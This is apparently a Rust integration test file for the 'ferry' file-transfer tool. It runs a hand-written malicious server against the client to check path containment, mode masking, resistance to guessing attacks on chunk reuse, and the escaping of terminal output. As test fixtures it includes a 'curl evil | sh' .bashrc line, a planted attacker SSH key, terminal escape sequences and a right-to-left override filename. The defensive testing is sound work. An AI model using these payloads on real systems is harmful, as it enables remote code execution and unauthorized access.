//! A malicious server against the real `ferry pull`, and what reuse may reveal (proto-spec.md §4 "Reuse", §11):
//! a tree answered to a file pull never lands over an existing directory, existing directories keep their modes,
//! modes are masked by the umask, a Need never tells a server which of its guesses the client holds, a push-only
//! client learns nothing from the chunk index, and a server's text never reaches the terminal raw.

use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use ferry::auth::Token;
use ferry::chunk::{ChunkSpec, ChunkingMode};
use ferry::manifest::{ChunkEntry, Chunking, FileTime, Manifest};
use ferry::ranges::IndexRange;
use ferry::transfer::handshake::client_hello;
use ferry::tree::LinkPolicy;
use ferry::wire::{
    Connection, EntryKind, ErrorCode, ErrorFrame, FileData, Message, Offer, Pull, PullKind, TreeCommit, TreeEntry,
    TreeFailure, TreeOffer, Welcome,
};
use ferry::wire::{Hello, MAGIC};
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

use crate::access::Site;
use crate::util::*;

/// A hand-written server on 127.0.0.1 that serves `connections` connections one after the other, greeting each
/// with a Welcome of `version`; `answer` sees every later message and returns the replies (`None`: hang up).
/// The task returns every message the client sent.
async fn fake_server<F>(version: u16, connections: usize, mut answer: F) -> (SocketAddr, JoinHandle<Vec<Message>>)
where
    F: FnMut(&Message) -> Option<Vec<Message>> + Send + 'static,
{
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let task = tokio::spawn(async move {
        let mut seen = Vec::new();
        for _ in 0..connections {
            let Ok(Ok((stream, _))) = tokio::time::timeout(Duration::from_secs(30), listener.accept()).await else {
                break;
            };
            let mut conn = Connection::new(stream, ferry::MAX_FRAME);
            while let Ok(Ok(Some(msg))) = tokio::time::timeout(Duration::from_secs(30), conn.read_message()).await {
                let replies = match &msg {
                    Message::Hello(_) => Some(vec![Message::Welcome(Welcome {
                        version,
                        agent: "evil/1.0".into(),
                        max_frame: ferry::MAX_FRAME,
                    })]),
                    other => answer(other),
                };
                seen.push(msg);
                let Some(replies) = replies else { break };
                for reply in replies {
                    if conn.write_message(&reply).await.is_err() {
                        break;
                    }
                }
            }
        }
        seen
    });
    (addr, task)
}

const T: FileTime = FileTime {
    secs: 1_700_000_000,
    nanos: 0,
};

fn file_entry(path: &str, data: &[u8], mode: u32) -> TreeEntry {
    TreeEntry {
        path: path.into(),
        kind: EntryKind::File {
            size: data.len() as u64,
            digest: *blake3::hash(data).as_bytes(),
            mtime: T,
            mode,
        },
    }
}

fn dir_entry(path: &str, mode: u32) -> TreeEntry {
    TreeEntry {
        path: path.into(),
        kind: EntryKind::Dir { mode, mtime: T },
    }
}

const PLANTED_KEY: &[u8] = b"ssh-ed25519 AAAA... attacker\n";
const EVIL_BASHRC: &[u8] = b"curl evil | sh\n";

/// A server that answers every pull with a tree planting `.bashrc` and `.ssh/authorized_keys` (`.ssh` mode 0777),
/// and serves the files the client asks for.
fn planting_answer(path: &'static str) -> impl FnMut(&Message) -> Option<Vec<Message>> + Send + 'static {
    let files: Vec<(u32, &[u8])> = vec![(0, EVIL_BASHRC), (2, PLANTED_KEY)];
    move |msg| match msg {
        Message::Pull(_) | Message::PullExpecting(_) => Some(vec![Message::TreeOffer(TreeOffer {
            path: path.into(),
            entries: vec![
                file_entry(".bashrc", EVIL_BASHRC, 0o644),
                dir_entry(".ssh", 0o777),
                file_entry(".ssh/authorized_keys", PLANTED_KEY, 0o666),
            ],
        })]),
        Message::TreeNeed(need) => {
            let wanted = |i: u32| need.entries.iter().any(|r| (r.start..r.start + r.count).contains(&i));
            let mut replies: Vec<Message> = files
                .iter()
                .filter(|(i, _)| wanted(*i))
                .map(|(i, data)| {
                    Message::FileData(FileData {
                        entry: *i,
                        data: data.to_vec(),
                    })
                })
                .collect();
            replies.push(Message::TreeCommit(TreeCommit::default()));
            Some(replies)
        }
        Message::TreeCommitted(_) | Message::Error(_) => None,
        _ => Some(vec![]),
    }
}

/// A home directory with a `.bashrc` and a private `.ssh`.
fn home(dir: &Path) -> PathBuf {
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::set_permissions(home.join(".ssh"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(home.join(".bashrc"), b"my bashrc\n").unwrap();
    std::fs::write(home.join(".ssh/known_hosts"), b"host\n").unwrap();
    home
}

fn assert_home_untouched(home: &Path) {
    assert_eq!(
        std::fs::read(home.join(".bashrc")).unwrap(),
        b"my bashrc\n",
        ".bashrc replaced"
    );
    assert!(!home.join(".ssh/authorized_keys").exists(), "authorized_keys planted");
    let mode = std::fs::metadata(home.join(".ssh")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "the mode of an existing directory changed");
}

/// The umask this test process (and so the ferry it starts) runs with.
fn umask() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|l| l.strip_prefix("Umask:")).unwrap();
    u32::from_str_radix(line.trim(), 8).unwrap()
}

fn mode_of(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// Issue 12 item 10: `ferry pull ferry://evil/nightly/db.dump ~/` answered with a tree. Against a version-5 server
/// the Pull says what it expects; against a version-4 one it is a plain Pull; either way the tree lands under the
/// remote's own name, new, with modes masked by the umask, and nothing of the home directory changes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tree_answered_to_a_pull_into_a_home_directory_goes_under_the_remote_name() {
    for version in [4, 5] {
        let dir = tempfile::tempdir().unwrap();
        let home = home(dir.path());
        let (addr, server) = fake_server(version, 1, planting_answer("nightly/db.dump")).await;
        let dest = PathBuf::from(format!("{}/", home.display()));
        let url = format!("ferry://{addr}/nightly/db.dump");
        let out = pull(&url, &dest, &dir.path().join("state"), &["--retries", "0"]).await;
        let seen = server.await.unwrap();
        assert_home_untouched(&home);
        match &seen[1] {
            Message::PullExpecting(p) if version >= 5 => assert_eq!(p.expect, PullKind::Any),
            Message::Pull(_) if version < 5 => {}
            other => panic!("version {version}: the client sent {other:?}"),
        }
        assert_eq!(out.code, 0, "version {version}: {}", out.stderr);
        let tree = home.join("db.dump");
        assert_eq!(std::fs::read(tree.join(".ssh/authorized_keys")).unwrap(), PLANTED_KEY);
        assert_eq!(std::fs::read(tree.join(".bashrc")).unwrap(), EVIL_BASHRC);
        assert_eq!(
            mode_of(&tree.join(".ssh")),
            0o777 & !umask(),
            "a created directory's mode, masked"
        );
        assert_eq!(
            mode_of(&tree.join(".ssh/authorized_keys")),
            0o666 & !umask(),
            "a file's mode, masked"
        );
    }
}

/// The remote's name inside the destination is taken only if it is new, empty or an earlier pull of the same
/// tree; otherwise the pull is refused and writes nothing. A second pull of the same tree updates it in place.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tree_is_never_merged_into_a_directory_holding_other_things() {
    let dir = tempfile::tempdir().unwrap();
    let home = home(dir.path());
    std::fs::create_dir(home.join("db.dump")).unwrap();
    std::fs::write(home.join("db.dump/notes.txt"), b"mine").unwrap();
    let (addr, server) = fake_server(5, 1, planting_answer("nightly/db.dump")).await;
    let url = format!("ferry://{addr}/nightly/db.dump");
    let out = pull(&url, &home, &dir.path().join("state"), &["--retries", "0"]).await;
    server.await.unwrap();
    assert_eq!(out.code, 6, "a local refusal: {}", out.stderr);
    assert!(out.stderr.contains("refusing to pull the tree"), "{}", out.stderr);
    assert_home_untouched(&home);
    let names: Vec<_> = std::fs::read_dir(home.join("db.dump"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["notes.txt"], "nothing written into the occupied directory");

    // A new destination receives the tree itself, and the next pull of the same tree goes there again; an empty
    // one receives it too and keeps its own mode.
    let (addr, server) = fake_server(5, 3, planting_answer("nightly/db.dump")).await;
    let url = format!("ferry://{addr}/nightly/db.dump");
    let fresh = dir.path().join("fresh");
    let state = dir.path().join("state");
    pull(&url, &fresh, &state, &["--retries", "0"]).await.assert_ok();
    std::fs::remove_file(fresh.join(".bashrc")).unwrap();
    pull(&url, &fresh, &state, &["--retries", "0"]).await.assert_ok();
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    std::fs::set_permissions(&empty, std::fs::Permissions::from_mode(0o711)).unwrap();
    pull(&url, &empty, &state, &["--retries", "0"]).await.assert_ok();
    server.await.unwrap();
    assert_eq!(
        std::fs::read(fresh.join(".bashrc")).unwrap(),
        EVIL_BASHRC,
        "updated in place"
    );
    assert!(!fresh.join("db.dump").exists(), "not nested under the remote name");
    assert_eq!(std::fs::read(empty.join(".bashrc")).unwrap(), EVIL_BASHRC);
    assert_eq!(mode_of(&empty), 0o711, "the destination directory keeps its mode");
}

/// A destination that is an existing file expects a file: a version-5 Pull says so, and a tree offered anyway is
/// refused (`WrongKind`) before anything is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tree_offered_for_a_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("db.dump");
    std::fs::write(&target, b"yesterday").unwrap();
    let (addr, server) = fake_server(5, 1, planting_answer("nightly/db.dump")).await;
    let url = format!("ferry://{addr}/nightly/db.dump");
    let out = pull(&url, &target, &dir.path().join("state"), &["--retries", "0"]).await;
    let seen = server.await.unwrap();
    assert!(
        matches!(&seen[1], Message::PullExpecting(p) if p.expect == PullKind::File),
        "{:?}",
        seen[1]
    );
    let refusal = seen.iter().find_map(|m| match m {
        Message::Error(frame) => Some(frame.code),
        _ => None,
    });
    assert_eq!(refusal, Some(ErrorCode::WrongKind));
    assert_eq!(out.code, 4, "a rejection: {}", out.stderr);
    assert!(out.stderr.contains("offered a tree"), "{}", out.stderr);
    assert_eq!(std::fs::read(&target).unwrap(), b"yesterday");
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(!names.iter().any(|n| n == ".ferry" || n == ".bashrc"), "{names:?}");
}

/// A manifest whose chunks are `guesses`, one after the other (the receiver checks tiling, not the scheme).
fn guessing_manifest(guesses: &[Vec<u8>]) -> Manifest {
    let mut chunks = Vec::with_capacity(guesses.len());
    let mut offset = 0;
    for guess in guesses {
        chunks.push(ChunkEntry {
            offset,
            len: guess.len() as u32,
            hash: *blake3::hash(guess).as_bytes(),
        });
        offset += guess.len() as u64;
    }
    Manifest {
        size: offset,
        digest: [7; 32],
        chunking: Chunking::Fixed { size: 4096 },
        mtime: T,
        mode: 0o644,
        chunks,
    }
}

/// One guessable line padded to a 4 KiB block: a receiver takes no chunk under 4 KiB but a file's last
/// (proto-spec.md §5), so a guess is a block, not a line.
fn block(line: &str) -> Vec<u8> {
    let mut bytes = line.as_bytes().to_vec();
    bytes.resize(4096, b'#');
    bytes
}

/// The secret the client holds: guess 37 of [`guesses`].
fn secret_bytes() -> Vec<u8> {
    block("password=hunter2-0037\n")
}

/// Ten thousand guesses of the same length as the secret; guess 37 is right.
fn guesses() -> Vec<Vec<u8>> {
    (0..10_000)
        .map(|i| block(&format!("password=hunter2-{i:04}\n")))
        .collect()
}

/// Issue 12 item 11a: a server offers ten thousand guesses for `secret.txt`; the client's Need must not say which
/// one its local copy holds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pulling_clients_need_does_not_reveal_which_guess_it_holds() {
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, secret_bytes()).unwrap();
    let manifest = guessing_manifest(&guesses());
    let (addr, server) = fake_server(5, 1, move |msg| match msg {
        Message::Pull(_) | Message::PullExpecting(_) => Some(vec![Message::Offer(Offer {
            path: "secret.txt".into(),
            manifest: manifest.clone(),
        })]),
        Message::Need(_) => Some(vec![Message::Error(ErrorFrame::new(ErrorCode::NotFound, "thanks"))]),
        _ => None,
    })
    .await;
    let url = format!("ferry://{addr}/secret.txt");
    let out = pull(&url, &secret, &dir.path().join("state"), &["--retries", "0"]).await;
    let seen = server.await.unwrap();
    assert_ne!(out.code, 0);
    let need = seen.iter().find_map(|m| match m {
        Message::Need(need) => Some(need.ranges.clone()),
        _ => None,
    });
    assert_eq!(
        need,
        Some(vec![IndexRange {
            start: 0,
            count: 10_000
        }]),
        "every guess is asked for"
    );
    assert_eq!(std::fs::read(&secret).unwrap(), secret_bytes());
}

/// The local copy lends its chunks in place once per version: after a first offer (a wrong guess) opened a
/// transfer, a second offer guessing right, at the right offset, is not answered from the local copy either.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pulling_client_answers_only_one_in_place_guess_per_version() {
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, secret_bytes()).unwrap();
    let mut offers = vec![
        guessing_manifest(&[block("password=hunter2-0036\n")]),
        guessing_manifest(&[secret_bytes()]),
    ]
    .into_iter();
    let (addr, server) = fake_server(5, 2, move |msg| match msg {
        Message::Pull(_) | Message::PullExpecting(_) => Some(vec![Message::Offer(Offer {
            path: "secret.txt".into(),
            manifest: offers.next().unwrap(),
        })]),
        Message::Need(_) => Some(vec![Message::Error(ErrorFrame::new(ErrorCode::Busy, "try again"))]),
        _ => None,
    })
    .await;
    let url = format!("ferry://{addr}/secret.txt");
    let out = pull(&url, &secret, &dir.path().join("state"), &["--retries", "1"]).await;
    let seen = server.await.unwrap();
    assert_ne!(out.code, 0);
    let needs: Vec<_> = seen
        .iter()
        .filter_map(|m| match m {
            Message::Need(need) => Some(need.ranges.clone()),
            _ => None,
        })
        .collect();
    let all = vec![IndexRange { start: 0, count: 1 }];
    assert_eq!(
        needs,
        [all.clone(), all],
        "neither guess is answered from the local copy"
    );
    assert_eq!(std::fs::read(&secret).unwrap(), secret_bytes());
}

/// Issue 12 item 11b: a push-only client sharing a namespace offers probe files; the chunk index must not lend
/// another client's chunks to it (its Need would say which probes match), and the file at the path it offers
/// lends only chunks at their own offset.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_only_client_cannot_probe_the_namespace_through_reuse() {
    let alice = Token::generate("alice").unwrap();
    let mallory = Token::generate("mallory").unwrap();
    let site = Site::start(
        &[
            (&alice, "shared", "[\"push\", \"pull\"]", ""),
            (&mallory, "shared", "[\"push\"]", ""),
        ],
        "",
    );
    let secret = site.dir.join("secret.bin");
    let content = write_random(&secret, 5000, 9);
    let alice_token = site.token_file(&alice);
    push(
        &secret,
        &site.server.url("secret.bin"),
        &site.state("alice"),
        &["--token-file", &alice_token],
    )
    .await
    .assert_ok();

    let wrong = vec![0x55u8; 5000];
    for path in ["probe.bin", "secret.bin"] {
        let stream = TcpStream::connect(site.server.addr).await.unwrap();
        let mut conn = Connection::new(stream, ferry::MAX_FRAME);
        client_hello(&mut conn, Duration::from_secs(10), Some(&mallory), None)
            .await
            .unwrap();
        // The secret is guessed right, but never at its own offset.
        let manifest = guessing_manifest(&[wrong.clone(), content.clone(), wrong.clone()]);
        let offer = Offer {
            path: path.into(),
            manifest,
        };
        conn.write_message(&Message::Offer(offer)).await.unwrap();
        let need = match tokio::time::timeout(Duration::from_secs(20), conn.read_message()).await {
            Ok(Ok(Some(Message::Need(need)))) => need.ranges,
            other => panic!("expected a Need, got {other:?}"),
        };
        let asked: u32 = need.iter().map(|r| r.count).sum();
        assert_eq!(
            asked, 2,
            "{path}: the right guess is asked for (the repeated wrong one once): {need:?}"
        );
        assert!(
            need.iter().any(|r| (r.start..r.start + r.count).contains(&1)),
            "{path}: {need:?}"
        );
    }
}

/// Issue 12 item 12: a server's TreeFailure reason with terminal escapes is printed made safe.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_servers_reasons_reach_the_terminal_without_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let (addr, server) = fake_server(5, 1, |msg| match msg {
        Message::Pull(_) | Message::PullExpecting(_) => Some(vec![Message::TreeOffer(TreeOffer {
            path: "t".into(),
            entries: vec![file_entry("a\u{202e}txt.exe", b"data", 0o644)],
        })]),
        Message::TreeNeed(_) => Some(vec![Message::TreeCommit(TreeCommit {
            failed: vec![TreeFailure {
                entry: 0,
                damaged: false,
                reason: "\u{1b}]0;pwned\u{7}\u{1b}[2Jgone".into(),
            }],
        })]),
        _ => None,
    })
    .await;
    let output = tokio::task::spawn_blocking(move || {
        Command::new(ferry_bin())
            .arg("pull")
            .arg(format!("ferry://{addr}/t"))
            .arg(dir.path().join("out"))
            .arg("--state")
            .arg(dir.path().join("state"))
            .args(["--retries", "0", "--timeout", "10s"])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    server.await.unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("FAILED"), "{stderr}");
    assert!(stderr.contains("gone"), "{stderr}");
    // ferry's own log colours aside, none of the server's escapes arrives raw.
    for raw in ["\u{1b}]0;", "\u{1b}[2J", "\u{7}", "\u{202e}"] {
        assert!(!stderr.contains(raw), "{raw:?} reached the terminal: {stderr:?}");
    }
}

/// Issue 13: a Pull's `ChunkSpec` size 0 and window 0 are raised to the minimum; an unknown `mode` makes the
/// frame undecodable (`Malformed`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pull_parameters_below_the_minimum_are_clamped_and_unknown_modes_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = TestServer::start(&dir.path().join("root"));
    write_random(&server.root.join("f.bin"), 20_000, 3);
    let stream = TcpStream::connect(server.addr).await.unwrap();
    let mut conn = Connection::new(stream, ferry::MAX_FRAME);
    client_hello(&mut conn, Duration::from_secs(10), None, None)
        .await
        .unwrap();
    let pull = Pull {
        path: "f.bin".into(),
        chunking: ChunkSpec {
            mode: ChunkingMode::Fixed,
            size: 0,
        },
        window: 0,
        links: LinkPolicy::Skip,
    };
    conn.write_message(&Message::Pull(pull.clone())).await.unwrap();
    match tokio::time::timeout(Duration::from_secs(20), conn.read_message()).await {
        Ok(Ok(Some(Message::Offer(offer)))) => {
            assert_eq!(
                offer.manifest.chunking,
                Chunking::Fixed {
                    size: ferry::MIN_CHUNK_SIZE
                }
            );
            assert_eq!(offer.manifest.chunks.len(), 5, "20,000 bytes in 4 KiB chunks");
        }
        other => panic!("expected an Offer, got {other:?}"),
    }

    // The same Pull with mode 7, after a Hello, on a raw socket: tag, path, then the mode's u32.
    let hello = Message::Hello(Hello {
        magic: MAGIC,
        min_version: ferry::PROTOCOL_VERSION,
        max_version: ferry::PROTOCOL_VERSION,
        agent: "test".into(),
        client: String::new(),
    });
    let mut bytes = Vec::new();
    ferry::wire::codec::encode_frame(&hello, ferry::MAX_FRAME, &mut bytes).unwrap();
    let mode_at = bytes.len() + 4 + 4 + 8 + "f.bin".len();
    ferry::wire::codec::encode_frame(&Message::Pull(pull), ferry::MAX_FRAME, &mut bytes).unwrap();
    bytes[mode_at..mode_at + 4].copy_from_slice(&7u32.to_le_bytes());
    let mut raw = TcpStream::connect(server.addr).await.unwrap();
    raw.write_all(&bytes).await.unwrap();
    let mut conn = Connection::new(raw, ferry::MAX_FRAME);
    assert!(matches!(conn.read_message().await, Ok(Some(Message::Welcome(_)))));
    match tokio::time::timeout(Duration::from_secs(20), conn.read_message()).await {
        Ok(Ok(Some(Message::Error(frame)))) => assert_eq!(frame.code, ErrorCode::Malformed),
        other => panic!("expected Malformed, got {other:?}"),
    }
}

/// The real server: a version-5 Pull that expects a file gets `WrongKind` for a directory (and the client exits
/// with a rejection, writing nothing); on a connection that settled on version 4, `PullExpecting` is unexpected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_refuses_the_kind_a_client_does_not_expect() {
    let dir = tempfile::tempdir().unwrap();
    let server = TestServer::start(&dir.path().join("root"));
    std::fs::create_dir_all(server.root.join("photos/2026")).unwrap();
    std::fs::write(server.root.join("photos/2026/a.jpg"), b"jpeg").unwrap();
    let target = dir.path().join("photos");
    std::fs::write(&target, b"a file, so a file is expected").unwrap();
    let out = pull(
        &server.url("photos"),
        &target,
        &dir.path().join("state"),
        &["--retries", "0"],
    )
    .await;
    assert_eq!(out.code, 4, "{}", out.stderr);
    assert!(out.stderr.contains("WrongKind"), "{}", out.stderr);
    assert_eq!(std::fs::read(&target).unwrap(), b"a file, so a file is expected");

    let stream = TcpStream::connect(server.addr).await.unwrap();
    let mut conn = Connection::new(stream, ferry::MAX_FRAME);
    let hello = Message::Hello(Hello {
        magic: MAGIC,
        min_version: 3,
        max_version: 4,
        agent: "old".into(),
        client: String::new(),
    });
    conn.write_message(&hello).await.unwrap();
    assert!(matches!(conn.read_message().await, Ok(Some(Message::Welcome(w))) if w.version == 4));
    let request = ferry::wire::PullExpecting {
        pull: Pull {
            path: "photos".into(),
            chunking: ChunkSpec::default(),
            window: 1 << 20,
            links: LinkPolicy::Skip,
        },
        expect: PullKind::Tree,
    };
    conn.write_message(&Message::PullExpecting(request.clone()))
        .await
        .unwrap();
    match tokio::time::timeout(Duration::from_secs(20), conn.read_message()).await {
        Ok(Ok(Some(Message::Error(frame)))) => assert_eq!(frame.code, ErrorCode::UnexpectedMessage),
        other => panic!("expected UnexpectedMessage, got {other:?}"),
    }

    // A version-4 client's plain Pull is still served (a Pull means "a file or a tree").
    let stream = TcpStream::connect(server.addr).await.unwrap();
    let mut conn = Connection::new(stream, ferry::MAX_FRAME);
    conn.write_message(&hello).await.unwrap();
    assert!(matches!(conn.read_message().await, Ok(Some(Message::Welcome(w))) if w.version == 4));
    conn.write_message(&Message::Pull(request.pull)).await.unwrap();
    match tokio::time::timeout(Duration::from_secs(20), conn.read_message()).await {
        Ok(Ok(Some(Message::TreeOffer(offer)))) => assert_eq!(offer.path, "photos"),
        other => panic!("expected a TreeOffer, got {other:?}"),
    }
}
